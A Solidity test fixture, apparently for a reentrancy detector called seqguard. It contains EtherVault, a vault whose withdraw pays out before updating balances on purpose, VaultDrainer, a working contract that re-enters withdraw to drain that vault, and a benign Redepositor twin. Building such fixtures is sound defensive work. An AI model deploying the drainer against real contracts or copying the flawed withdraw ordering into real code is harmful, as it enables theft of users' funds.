// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

/// @title EtherVault: an ETH vault whose withdraw pays before it updates its books.
/// @notice Written for seqguard's detector tests: the classic reentrancy bug
/// (checks, then interaction, then effects), as in The DAO's splitDAO.
contract EtherVault {
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdrawal(address indexed who, uint256 amount);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "EtherVault: nothing to withdraw");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "EtherVault: transfer failed");
        balanceOf[msg.sender] = 0; // too late: a re-entered withdraw saw the old balance
        emit Withdrawal(msg.sender, amount);
    }
}

/// @title VaultDrainer: re-enters EtherVault.withdraw from its receive hook.
contract VaultDrainer {
    EtherVault public immutable vault;
    address public immutable owner;
    uint256 public rounds;

    constructor(EtherVault vault_) {
        vault = vault_;
        owner = msg.sender;
    }

    function attack(uint256 maxRounds) external payable {
        require(msg.sender == owner, "VaultDrainer: owner only");
        rounds = maxRounds;
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {
        if (rounds > 1 && address(vault).balance >= msg.value) {
            rounds -= 1;
            vault.withdraw();
        }
    }
}

/// @title Redepositor: a benign twin that puts what it is paid straight back.
contract Redepositor {
    EtherVault public immutable vault;

    constructor(EtherVault vault_) {
        vault = vault_;
    }

    function cycle() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (msg.sender == address(vault)) {
            vault.deposit{value: msg.value}();
        }
    }
}
